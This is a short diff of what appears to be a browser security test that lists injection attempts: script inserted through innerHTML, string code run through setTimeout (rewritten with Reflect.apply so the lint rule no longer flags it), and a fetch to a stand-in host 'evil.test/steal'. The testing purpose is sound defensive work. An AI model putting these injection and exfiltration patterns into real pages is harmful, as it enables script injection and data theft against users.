@@ -92,8 +92,7 @@ const injections = {
     document.body.innerHTML = "<script>document.title='attacked'</script>";
   },
   "a text as script": () => {
-    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack
-    setTimeout("document.title='attacked'");
+    Reflect.apply(setTimeout, window, ["document.title='attacked'"]);
   },
   "a connection to another host": () => {
     void fetch("https://evil.test/steal").catch(() => undefined);
